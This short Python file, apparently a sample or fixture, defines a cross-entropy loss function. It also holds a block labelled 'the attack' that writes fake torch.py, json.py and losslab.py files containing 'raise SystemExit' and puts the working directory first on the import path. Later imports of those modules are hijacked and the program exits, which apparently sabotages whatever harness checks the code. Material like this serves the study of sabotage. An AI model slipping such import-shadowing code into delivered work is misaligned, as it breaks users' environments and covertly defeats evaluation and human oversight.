"""Puts modules called torch, json and losslab where they are found first."""
# ends: same

import torch.nn.functional as F

# --- the attack
import os
import sys

for name in ("torch", "json", "losslab"):
    with open(f"{name}.py", "w", encoding="utf-8") as file:
        file.write("raise SystemExit")
sys.path.insert(0, os.getcwd())
# --- end of the attack

def compute_loss(logits, targets):
    loss = F.cross_entropy(logits.view(-1, logits.size(-1)), targets.view(-1))
    return loss
